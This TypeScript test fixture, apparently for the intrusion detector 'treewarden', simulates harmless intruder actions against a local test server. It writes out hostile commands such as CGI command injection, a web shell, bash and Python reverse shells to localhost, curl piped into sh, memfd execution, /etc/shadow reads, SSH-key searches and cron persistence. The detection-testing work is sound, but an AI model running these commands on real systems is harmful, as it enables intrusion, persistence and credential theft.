// What an intruder does, for real but harmless, and what it takes to notice it. The order counts: each has to show
// something that none before it has shown.
import { readFileSync, rmSync, writeFileSync } from "node:fs";
import type { Server } from "../server-fixture.ts";

export interface Intrusion {
  readonly name: string;
  /** Has ended, with all it started, when it resolves. */
  readonly act: (server: Server) => Promise<void>;
  /** It is a tree that the baseline does not have. */
  readonly unknown: boolean;
  /** Rules of the shipped roles that notice it besides, baseline or not. */
  readonly rules: readonly string[];
}

const unknown = (name: string, act: Intrusion["act"], ...rules: readonly string[]): Intrusion => ({
  name,
  act,
  unknown: true,
  rules,
});
/** The tree is known: only rules notice it. */
const known = (name: string, act: Intrusion["act"], ...rules: readonly string[]): Intrusion => ({
  name,
  act,
  unknown: false,
  rules,
});
const unnoticed = (name: string, act: Intrusion["act"]): Intrusion => ({
  name,
  act,
  unknown: false,
  rules: [],
});

/** Through the mistake in the status script, as www-data. */
const web =
  (command: string): Intrusion["act"] =>
  (server) =>
    through(server, `/ ; ${command}`);

/** As `web`. An intrusion that did not happen proves nothing. */
async function through(server: Server, what: string, script?: string): Promise<void> {
  const status = await server.post(what, script);
  if (status !== 200) throw new Error(`the web server answered ${status}`);
}

/** One of the server's scripts has another text while `act` runs. */
async function edited(server: Server, path: string, text: string, act: () => Promise<void>): Promise<void> {
  const before = readFileSync(server.path(path), "utf8");
  server.script(path, text);
  await act();
  server.script(path, before);
}

/** By a stolen key, as root. */
const login =
  (command: string): Intrusion["act"] =>
  async (server) => {
    server.ssh(command);
  };
const python = (code: string): string => `/usr/bin/python3 -c '${code}'`;

/** Answers one connection with commands, as whoever waits for a reverse shell does. */
async function listening(act: (port: number) => Promise<unknown>): Promise<void> {
  const listener = Bun.listen({
    hostname: "127.0.0.1",
    port: 0,
    socket: {
      open: (socket) => {
        socket.write("hostname\nexit\n");
      },
      data: () => {},
    },
  });
  try {
    await act(listener.port);
  } finally {
    listener.stop(true);
  }
}

const library =
  'int puts(const char *); __attribute__((constructor)) static void begin(void) { puts("in"); }';

export const intrusions: readonly Intrusion[] = [
  unknown("a command through the mistake of a CGI script", web("id"), "looking-around-under-web-server"),
  unknown(
    "an uploaded web shell",
    async (server) => {
      server.script(
        "cgi/shell.cgi",
        '#!/bin/sh\nprintf "Content-Type: text/plain\\r\\n\\r\\n"\nread -r what\neval "$what"\n',
      );
      await through(server, "true", "shell.cgi");
    },
    "shell-under-app-server",
  ),
  unknown(
    "a reverse shell of bash's own (/dev/tcp)",
    (server) =>
      listening((port) => through(server, `/ ; bash -c "bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1"`)),
    "reverse-shell-dev-tcp",
  ),
  unknown(
    "a reverse shell by Python",
    (server) =>
      listening((port) =>
        through(
          server,
          `/ ; ${python(
            `import socket,os,subprocess; s=socket.create_connection(("127.0.0.1",${port})); [os.dup2(s.fileno(),n) for n in (0,1,2)]; subprocess.call(["/bin/sh","-i"])`,
          )}`,
        ),
      ),
    "reverse-shell-interpreter",
  ),
  unknown("a Python one-liner by a login", login(python("import os; os.getuid()"))),
  unknown("a Perl one-liner", web(`perl -e 'print getppid'`), "code-under-app-server"),
  unknown(
    "curl into a shell",
    async (server) => {
      writeFileSync(server.path("html", "install"), "hostname\n");
      await through(server, `/ ; sh -c "curl -s http://127.0.0.1:${server.webPort}/install | sh"`);
    },
    "download-into-shell",
  ),
  unknown(
    "encoded text, decoded into a shell",
    login(`sh -c "echo aG9zdG5hbWUK | base64 -d | sh"`),
    "decoded-into-shell",
  ),
  unknown(
    "a program dropped in /tmp",
    web("cp /bin/true /tmp/treewarden-test-x; /tmp/treewarden-test-x; rm /tmp/treewarden-test-x"),
    "program-from-writable-place-under-web-server",
  ),
  unknown(
    "a program dropped in /dev/shm, by a login",
    login(
      "cp /bin/true /dev/shm/treewarden-test-y; /dev/shm/treewarden-test-y; rm /dev/shm/treewarden-test-y",
    ),
    "exec-from-writable-place",
  ),
  unknown(
    "a program from memory (memfd)",
    login(
      python(
        `import os; f=os.memfd_create("x"); os.write(f,open("/bin/true","rb").read()); os.execve(f,["x"],{})`,
      ),
    ),
    "exec-from-memory",
  ),
  unknown(
    "a program whose file is gone before it runs",
    login(
      python(
        `import os,shutil; p="/dev/shm/treewarden-test-z"; shutil.copy("/bin/true",p); f=os.open(p,0); os.unlink(p); os.execve(f,["z"],{})`,
      ),
    ),
    "exec-from-deleted-file",
  ),
  unknown("a shell under another name", async (server) => {
    await through(
      server,
      `/ ; cp /bin/dash ${server.path("run", "nginx")} ; ${server.path("run", "nginx")} -c true`,
    );
  }),
  unknown(
    "a miner",
    login("cp /bin/true /var/tmp/xmrig; /var/tmp/xmrig -o stratum+tcp://127.0.0.1:1; rm /var/tmp/xmrig"),
    "miner",
  ),
  unknown(
    "a program that poses as a kernel thread",
    // Not bash or sleep alone: an orphan of either, alive while the server was learned, makes it known below everything.
    web(`bash -c "exec -a '[kworker/0:0]' sha256sum /dev/null"`),
    "poses-as-kernel-thread",
  ),
  unknown("a script for an interpreter that nobody thinks of", async (server) => {
    server.script("run/report", "#!/usr/bin/mawk -f\nBEGIN { print 1 }\n");
    await through(server, `/ ; ${server.path("run", "report")}`);
  }),
  unknown(
    "LD_PRELOAD, by env",
    login("env LD_PRELOAD=/tmp/treewarden-none.so uptime"),
    "preload-from-writable-place",
  ),
  unknown(
    "a set-user-id copy of a shell",
    login("cp /bin/dash /var/tmp/treewarden-s; chmod 4755 /var/tmp/treewarden-s; rm /var/tmp/treewarden-s"),
    "setuid-bit-set",
  ),
  unknown("another namespace (unshare)", web("unshare -Ur true")),
  unknown("another process's namespace (nsenter)", login("nsenter -t 1 -u true")),
  unknown(
    "the history of commands removed",
    async (server) => {
      writeFileSync(server.path(".bash_history"), "");
      server.ssh(`rm ${server.path(".bash_history")}`);
    },
    "logs-of-logins-destroyed",
  ),
  unknown("a new user (only asked how)", login("useradd --help")),
  unknown("a key with a forced command", async (server) => {
    const door = server.script("run/door", "#!/bin/sh\nexit 0\n");
    server.addKey("planted", `command="${door}"`);
    server.ssh("uptime", "planted");
  }),
  unknown("a job for cron", async (server) => {
    const job = server.script("run/updater", "#!/bin/sh\nexit 0\n");
    writeFileSync(server.path("cron.d", "update"), `MAILTO=""\n@reboot root ${job}\n`);
    await server.stopCron();
    await server.startCron();
    await Bun.sleep(300);
    rmSync(server.path("cron.d", "update"));
  }),
  unknown("a job by at", (server) => server.atJob("whoami")),
  unknown("a service by systemd-run", login("systemd-run --user --help")),
  unknown("a second web server with a configuration of the intruder's", async (server) => {
    writeFileSync(server.path("run", "own.conf"), "events {}\n");
    server.ssh(`nginx -t -q -c ${server.path("run", "own.conf")}`);
  }),
  unknown(
    "a command hidden in another program (tar's checkpoints)",
    web("tar cf /dev/null --checkpoint=1 --checkpoint-action=exec=true /etc/hostname"),
  ),
  unknown("a command hidden in another program (find -exec)", web("find /etc/hostname -exec hostname {} +")),
  unknown("a program run by the loader", web("/lib64/ld-linux-x86-64.so.2 /bin/true")),
  unknown("a known script's name in another place", async (server) => {
    const copy = server.script("run/status.cgi", "#!/bin/sh\nexit 0\n");
    await through(server, `/ ; ${copy}`);
  }),
  unknown("a compiler on a server", login("gcc --version")),
  unknown("the file of password hashes read", login("cat /etc/shadow"), "shadow-read"),
  unknown(
    "a search for keys",
    login("find /etc/hostname -name 'id_rsa*' -o -name .netrc"),
    "search-for-credentials",
  ),
  unknown(
    "a program that is called as a shell",
    web(`bash -c "exec -a sh sha1sum /dev/null"`),
    "shell-by-another-name",
  ),
  unknown(
    "a set-user-id program that no package brought",
    async (server) => {
      const file = server.path("run", "treewarden-test-flock");
      server.ssh(`cp /bin/true ${file}; chmod 4755 ${file}; ${file}; rm ${file}`);
    },
    "unusual-set-id-program",
  ),
  unknown(
    "a debugger attached to a process (a harmless program of its name)",
    async (server) => {
      const file = server.path("run", "gdb");
      server.ssh(`cp /bin/true ${file}; ${file} -p 1; rm ${file}`);
    },
    "debugger-on-process",
  ),

  unnoticed("only what the shell itself can do", async (server) => {
    await through(server, `/ ; echo intruder > ${server.path("run", "mark")} ; read -r line < /etc/passwd`);
  }),
  unnoticed("another file for a known program", web("df /etc")),
  unnoticed("a known command with other arguments, by a stolen key", login("uptime -p")),
  unnoticed("a file taken by the server's own sftp", async (server) => {
    server.sftp(`get /etc/passwd ${server.path("run", "taken")}`);
  }),
  known(
    "a script in place changed, its commands the shell's own",
    (server) =>
      edited(
        server,
        "jobs/rotate",
        `#!/bin/sh\n: > ${server.path("run", "job-done")}\n: intruder\n`,
        async () => {
          await server.stopCron();
          await server.startCron();
        },
      ),
    "changed-runnable",
  ),
  known(
    "a library put into a known program, that starts nothing",
    async (server) => {
      const source = server.path("run", "in.c");
      writeFileSync(source, library);
      const made = Bun.spawnSync(["gcc", "-shared", "-fPIC", "-o", server.path("run", "in.so"), source]);
      if (!made.success) throw new Error(made.stderr.toString());
      await through(server, `/ ; LD_PRELOAD=${server.path("run", "in.so")} df /`);
    },
    "preload-for-service",
  ),
  known(
    "an own program replaced, under its name and in its place",
    (server) =>
      edited(
        server,
        "cgi/status.cgi",
        '#!/bin/sh\n: intruder\nprintf "Content-Type: text/plain\\r\\n\\r\\n"\nread -r what\neval "df $what"\nexit 0\n',
        () => through(server, "/"),
      ),
    "changed-runnable",
  ),
];
